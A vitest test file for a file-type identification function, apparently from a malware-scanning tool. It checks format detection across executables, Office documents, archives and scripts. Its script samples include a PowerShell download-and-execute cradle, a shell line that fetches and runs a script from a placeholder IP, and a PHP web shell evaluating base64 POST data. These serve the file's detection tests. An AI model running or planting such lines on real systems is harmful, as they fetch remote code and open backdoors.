import * as fc from "fast-check";
import { expect, test } from "vitest";
import {
  buildDocx,
  buildElf,
  buildLnk,
  buildOle,
  buildOleWithVba,
  buildPdf,
  buildPe,
  buildRtfWithPackage,
  buildXlsx,
  buildZip,
  concatBytes,
  eicar,
  noise,
} from "../testing/index.ts";
import { identify } from "./identify.ts";
import { isFileTypeId, type FileTypeId } from "../file-type.ts";

const bytes = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));
const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le"));
const padded = (text: string, at: number): Uint8Array =>
  concatBytes(new Uint8Array(at), bytes(text), new Uint8Array(600));

const BINARIES: readonly (readonly [type: FileTypeId, what: string, content: Uint8Array])[] = [
  ["pe-exe", "a GUI program", buildPe()],
  ["pe-dll", "a library", buildPe({ isDll: true, bits: 64 })],
  ["pe-sys", "a native program", buildPe({ subsystem: 1 })],
  ["dos-mz", "MZ without PE", concatBytes(bytes("MZ"), new Uint8Array(100))],
  ["elf", "an ELF program", buildElf()],
  ["mach-o", "a 64-bit Mach-O", bytes("\xcf\xfa\xed\xfe\x07\0\0\x01")],
  ["mach-o", "a universal Mach-O", bytes("\xca\xfe\xba\xbe\0\0\0\x02")],
  ["java-class", "a Java class", bytes("\xca\xfe\xba\xbe\0\0\0\x34\0\x1f")],
  ["dex", "Android byte code", bytes("dex\n035\0")],
  ["wasm", "WebAssembly", bytes("\0asm\x01\0\0\0")],
  ["swf", "compressed Flash", bytes("CWS\x0a\0\0\0\0")],
  ["chm", "compiled help", bytes("ITSF\x03\0\0\0")],
  ["pdf", "a PDF", buildPdf()],
  ["pdf", "a PDF with junk in front", concatBytes(bytes("junk\n"), buildPdf())],
  ["rtf", "an RTF", buildRtfWithPackage("a.txt", bytes("x"))],
  ["rtf", "an RTF with a maimed header", bytes("{\\rt{\\object}}")],
  ["doc", "a Word 97 document", buildOleWithVba()],
  ["xls", "an Excel 97 workbook", buildOleWithVba({ kind: "excel" })],
  ["ppt", "a PowerPoint 97 presentation", buildOle({ "PowerPoint Document": noise(5000) })],
  ["msg", "an Outlook message", buildOle({ "__properties_version1.0": noise(32) })],
  ["msi", "an installer package", buildOle({ x: noise(10) }, { rootClsid: "84100c0000000000c000000000000046" })],
  ["hwp", "a Hangul document", buildOle({ "\x05HwpSummaryInformation": noise(10), FileHeader: noise(256) })],
  ["jtd", "an Ichitaro document", buildOle({ JSRV_SegmentInformation: noise(10) })],
  ["ooxml-encrypted", "an encrypted document", buildOle({ EncryptionInfo: noise(100), EncryptedPackage: noise(5000) })],
  ["ole", "an OLE file of no known kind", buildOle({ Contents: noise(10) })],
  ["docx", "a Word document", buildDocx()],
  ["docm", "a Word document with macros", buildDocx({ macros: { A: "Sub A()\nEnd Sub" } })],
  ["xlsx", "a workbook", buildXlsx()],
  ["xlsm", "a workbook with macros", buildXlsx({ macros: { A: "Sub A()\nEnd Sub" } })],
  [
    "xlsb",
    "a binary workbook",
    buildZip([
      { name: "[Content_Types].xml", data: "" },
      { name: "xl/workbook.bin", data: "x" },
    ]),
  ],
  [
    "pptx",
    "a presentation",
    buildZip([
      { name: "[Content_Types].xml", data: "" },
      { name: "ppt/presentation.xml", data: "x" },
    ]),
  ],
  [
    "jar",
    "a Java archive",
    buildZip([
      { name: "META-INF/MANIFEST.MF", data: "" },
      { name: "A.class", data: "x" },
    ]),
  ],
  [
    "apk",
    "an Android package",
    buildZip([
      { name: "AndroidManifest.xml", data: "" },
      { name: "META-INF/MANIFEST.MF", data: "" },
    ]),
  ],
  [
    "odt",
    "an OpenDocument text",
    buildZip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", isStored: true }]),
  ],
  ["hwpx", "a Hangul zip document", buildZip([{ name: "mimetype", data: "application/hwp+zip", isStored: true }])],
  [
    "msix",
    "an app package",
    buildZip([
      { name: "[Content_Types].xml", data: "" },
      { name: "AppxManifest.xml", data: "" },
    ]),
  ],
  ["zip", "an archive", buildZip([{ name: "a.txt", data: "x" }])],
  ["zip", "an empty archive", buildZip([])],
  ["lnk", "a shortcut", buildLnk({ localPath: "C:\\a.exe" })],
  ["one", "a OneNote section", bytes("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3")],
  ["7z", "a 7z archive", bytes("7z\xbc\xaf\x27\x1c\0\x04")],
  ["rar", "a RAR 4 archive", bytes("Rar!\x1a\x07\0\xcf\x90\x73\0\0\x0d\0\0\0\0\0\0\0")],
  ["tar", "a tar archive", padded("ustar", 257)],
  ["gz", "gzip", bytes("\x1f\x8b\x08\0\0\0\0\0")],
  ["bz2", "bzip2", bytes("BZh91AY&SY")],
  ["xz", "xz", bytes("\xfd7zXZ\0\0\x04")],
  ["zst", "zstd", bytes("\x28\xb5\x2f\xfd\x04\0")],
  ["lzh", "an LHA archive", bytes("\x24\x0f-lh5-\x10\0\0\0")],
  ["arj", "an ARJ archive", bytes("\x60\xea\x2a\0\x22\x0b\x01\x0b")],
  ["ace", "an ACE archive", bytes("\x4a\x8c\x31\0\0\0\x90**ACE**")],
  ["cab", "a cabinet", bytes("MSCF\0\0\0\0\x10\0\0\0")],
  ["iso", "an ISO image", padded("\x01CD001", 32768)],
  ["udf", "a UDF image", padded("\0BEA01", 32768)],
  ["vhd", "a VHDX disk", bytes("vhdxfileM\0")],
  ["vhd", "a VHD disk, by its footer", concatBytes(noise(1024).fill(0xf0), bytes("conectix"), new Uint8Array(504))],
  ["deb", "a Debian package", bytes("!<arch>\ndebian-binary   ")],
  ["rpm", "an RPM package", bytes("\xed\xab\xee\xdb\x03\0")],
  ["cpio", "a cpio archive", bytes("070701000000")],
  ["evtx", "an event log", bytes("ElfFile\0\0\0")],
  ["sqlite", "a database", bytes("SQLite format 3\0")],
  ["pcap", "a capture", bytes("\xd4\xc3\xb2\xa1\x02\0\x04\0")],
  ["pcap", "a pcapng capture", bytes("\n\r\r\n\x1c\0\0\0M<+\x1a")],
  ["png", "a PNG", bytes("\x89PNG\r\n\x1a\n\0\0\0\rIHDR")],
  ["jpg", "a JPEG", bytes("\xff\xd8\xff\xe0\0\x10JFIF")],
  ["gif", "a GIF", bytes("GIF89a\x01\0")],
  ["bmp", "a bitmap", concatBytes(bytes("BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"), new Uint8Array(60))],
  ["ico", "an icon", bytes("\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x28\x01\0\0\x16\0\0\0")],
  ["tiff", "a TIFF", bytes("II*\0\x08\0\0\0")],
  ["webp", "a WebP", bytes("RIFF\x10\0\0\0WEBPVP8 ")],
  ["avi", "an AVI", bytes("RIFF\x10\0\0\0AVI LIST")],
  ["wav", "a WAVE", bytes("RIFF\x10\0\0\0WAVEfmt ")],
  ["mp3", "an MP3 with tags", bytes("ID3\x03\0\0\0\0")],
  ["mp4", "an MP4", bytes("\0\0\0\x18ftypmp42")],
  ["ogg", "an Ogg stream", bytes("OggS\0\x02")],
  ["ttf", "a TrueType font", bytes("\0\x01\0\0\0\x12\x01\0")],
  ["otf", "an OpenType font", bytes("OTTO\0\x0b")],
  ["eicar", "the EICAR test file", eicar()],
  ["eicar", "the EICAR test file with a line end", concatBytes(eicar(), bytes("\r\n"))],
  ["empty", "no bytes", new Uint8Array(0)],
  ["data", "noise", noise(4096)],
];

test.each(BINARIES)("%s is told from its bytes: %s", (type, _what, content) => {
  expect(identify(content).type).toBe(type);
});

const TEXTS: readonly (readonly [type: FileTypeId, content: string])[] = [
  ["js", 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n'],
  ["js", "(function() { document.getElementById('x').innerHTML = String.fromCharCode(65, 66); })();"],
  ["js", `${"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]".repeat(3)}()`],
  ["vbe", "#@~^DgAAAA==\\ko$K6,JC6V^GJqAQAAA==^#~@"],
  ["vbs", 'Dim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c calc", 0, False\n'],
  ["vbs", "On Error Resume Next\nExecute(Chr(77) & Chr(115) & Chr(103))\n"],
  ["ps1", "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"],
  ["ps1", "$data = Get-Content C:\\a.txt\nforeach ($x in $data) { Write-Host $x }\n"],
  ["ps1", "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b)) | Out-Null\n"],
  ["bat", "@echo off\r\nset X=1\r\nif exist %TEMP%\\a.exe del %TEMP%\\a.exe\r\ngoto :eof\r\n"],
  ["sh", "#!/bin/sh\necho hello\n"],
  ["sh", "cd /tmp; wget http://192.0.2.1/a.sh; chmod 777 a.sh; if [ -f a.sh ]; then sh a.sh > /dev/null; fi\n"],
  ["python", "#!/usr/bin/env python3\nprint('x')\n"],
  [
    "python",
    "import os, socket\nfrom subprocess import call\n\ndef main():\n    os.system('id')\n\nif __name__ == '__main__':\n    main()\n",
  ],
  ["perl", "#!/usr/bin/perl -w\nprint 1;\n"],
  ["perl", "use strict;\nuse warnings;\nmy $x = shift;\nif ($x =~ /a/) { print $x; }\n"],
  ["php", "<?php eval(base64_decode($_POST['x'])); ?>"],
  ["hta", '<html><head><HTA:APPLICATION id="x"/></head><script language="VBScript">x</script></html>'],
  ["wsf", '<?xml version="1.0"?>\n<job id="a"><script language="JScript">WScript.Echo(1);</script></job>'],
  [
    "sct",
    '<?XML version="1.0"?>\n<scriptlet><registration progid="x"><script language="JScript">x</script></registration></scriptlet>',
  ],
  ["html", "<!DOCTYPE html><html><body>x</body></html>"],
  ["html", "<!-- a comment -->\n<script>alert(1)</script>"],
  [
    "mhtml",
    "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n<html></html>",
  ],
  ["xml", '<?xml version="1.0"?><root><a/></root>'],
  ["svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'],
  [
    "eml",
    "Received: from a by b; Tue, 1 Jan 2030 00:00:00 +0000\nFrom: a@example.com\nTo: b@example.com\nSubject: hi\n\nbody\n",
  ],
  [
    "mbox",
    "From a@example.com Tue Jan  1 00:00:00 2030\nFrom: a@example.com\nTo: b@example.com\nSubject: hi\n\nbody\n",
  ],
  ["url", "[InternetShortcut]\r\nURL=http://example.com/\r\n"],
  ["desktop", "[Desktop Entry]\nExec=calc\n"],
  ["reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"],
  ["inf", '[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\n'],
  ["pem", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"],
  ["json", '{"a": [1, 2, {"b": null}]}'],
  ["csv", "a,b,c\n1,2,3\n4,5,6\n"],
  [
    "text",
    "Dear colleagues,\n\nplease find the report of last week below. It is on the share, too.\nIf there are questions, do call.\n",
  ],
  [
    "text",
    "The function of this variable is to return a new class of objects for every import, while the end of the set is public.\n".repeat(
      50,
    ),
  ],
];

test.each(TEXTS)("%s is told from its text: %s", (type, content) => {
  expect(identify(bytes(content)).type).toBe(type);
});

test.each(TEXTS.filter(([type]) => type === "ps1" || type === "vbs" || type === "bat" || type === "reg"))(
  "%s is told from UTF-16 text: %s",
  (type, content) => {
    expect(identify(utf16(content)).type).toBe(type);
  },
);

test("a script's name settles what its few words leave open, and never turns one language into another", () => {
  const short = bytes('x = "1"\n');
  expect(identify(short).type).toBe("text");
  expect(identify(short, { name: "a.vbs" }).type).toBe("vbs");
  expect(
    identify(
      bytes("import os\nfrom sys import argv\ndef f(x):\n  os.system(x)\nif __name__ == '__main__':\n  f(argv[1])\n"),
      { name: "a.vbs" },
    ).type,
  ).toBe("python");
});

test.each([
  ["vbe", "a.vbe"],
  ["jse", "a.jse"],
])("an encoded script is %s by its name", (type, name) => {
  expect(identify(bytes("#@~^DgAAAA==\\ko$K6,JC6V^GJqAQAAA==^#~@"), { name }).type).toBe(type);
});

test("the sentence follows libmagic for what the service shows", () => {
  expect(identify(buildPe({ bits: 64 })).magic).toBe("PE32+ executable (GUI) x86-64, for MS Windows");
  expect(identify(bytes("[InternetShortcut]\nURL=http://www.example.com\n")).magic).toBe(
    "MS Windows 95 Internet shortcut text (URL=<http://www.example.com>), ASCII text",
  );
  expect(identify(bytes("plain\r\ntext\r\n")).magic).toBe("ASCII text, with CRLF line terminators");
});

test.each([
  ["an archive with an encrypted member", buildZip([{ name: "a", data: "x", isMarkedEncrypted: true }]), true],
  ["an archive without one", buildZip([{ name: "a", data: "x" }]), false],
  ["an encrypted Office document", buildOle({ EncryptedPackage: noise(5000) }), true],
  ["a Word document with a password", buildOleWithVba({ isEncrypted: true }), true],
  ["a workbook with a password", buildOleWithVba({ kind: "excel", isEncrypted: true }), true],
  ["a Word document without one", buildOleWithVba(), false],
  ["an encrypted PDF", buildPdf({ isEncrypted: true }), true],
  ["a plain PDF", buildPdf(), false],
  ["a RAR 4 archive with encrypted names", bytes("Rar!\x1a\x07\0\xce\x99\x73\x80\0\x0d\0\0\0\0\0\0\0"), true],
  ["a RAR 5 archive with encrypted names", bytes("Rar!\x1a\x07\x01\0\x21\x04\0\0\x05\x04\0\0\0\x0f"), true],
  ["a 7z archive whose header is missing", bytes("7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0\xff\xff\0\0\0\0\0\0"), undefined],
])("encryption of %s is told", (_what, content, encrypted) => {
  expect(identify(content).encrypted).toBe(encrypted);
});

test("a ZIP directory at the end tells the family when the local headers do not", () => {
  const whole = buildDocx({ macros: { A: "Sub A()\nEnd Sub" } });
  const head = whole.subarray(0, 40);
  expect(identify(head, { sizeBytes: whole.length }).type).toBe("zip");
  expect(identify(head, { sizeBytes: whole.length, tail: whole }).type).toBe("docm");
});

test("a ZIP behind other data is still found", () => {
  const polyglot = concatBytes(noise(500).fill(0x80), buildZip([{ name: "a.js", data: "x" }]));
  expect(identify(polyglot)).toMatchObject({ type: "zip", magic: "Zip archive data, with other data in front" });
});

test("containers are what other files are taken out of", () => {
  expect(identify(buildZip([])).isContainer).toBe(true);
  expect(identify(buildDocx()).isContainer).toBe(false);
  expect(identify(bytes("From: a@example.com\nTo: b@example.com\nSubject: hi\n\n")).isContainer).toBe(true);
});

test("arbitrary bytes and names are identified without a throw", () => {
  fc.assert(
    fc.property(
      fc.uint8Array({ maxLength: 3000 }),
      fc.uint8Array({ maxLength: 80 }).map((units) => Buffer.from(units).toString("utf16le")),
      fc.nat(1_000_000),
      (content, name, more) => {
        const known = { name, sizeBytes: content.length + more, tail: content };
        expect(isFileTypeId(identify(content, known).type)).toBe(true);
      },
    ),
    { numRuns: 150 },
  );
});

test("mutated valid files are identified without a throw", () => {
  const seeds = BINARIES.map(([, , content]) => content);
  fc.assert(
    fc.property(
      fc.constantFrom(...seeds),
      fc.array(fc.tuple(fc.nat(8191), fc.nat(255)), { maxLength: 20 }),
      fc.nat(8192),
      (seed, changes, length) => {
        const content = seed.slice(0, length);
        for (const [at, value] of changes) if (at < content.length) content[at] = value;
        const known = { tail: content.subarray(-500), sizeBytes: content.length + 1 };
        expect(isFileTypeId(identify(content, known).type)).toBe(true);
      },
    ),
    { numRuns: 300 },
  );
});

const MIB = 1 << 20;

test.each([
  ["open brackets", "[".repeat(MIB)],
  ["open tags", "<a ".repeat(MIB / 3)],
  ["spaces", `<${" ".repeat(MIB)}`],
  ["one long word", "a".repeat(MIB)],
  ["joined words", "a.".repeat(MIB / 2)],
  ["headers", "X-A: b\n".repeat(MIB / 8)],
  ["curl without a pipe", "curl http://x ".repeat(MIB / 16)],
  ["comments", "<!--".repeat(MIB / 4)],
  ["function heads", "function a(".repeat(MIB / 16)],
  ["percent signs", "%a".repeat(MIB / 2)],
  ["local headers", "PK\x03\x04".repeat(MIB / 4)],
  ["section heads", "\n[Internet".repeat(MIB / 10)],
])("a megabyte of %s is identified in linear time", (_what, text) => {
  const content = bytes(text);
  const started = process.threadCpuUsage();
  identify(content);
  expect(process.threadCpuUsage(started).user / 1000).toBeLessThan(500);
});
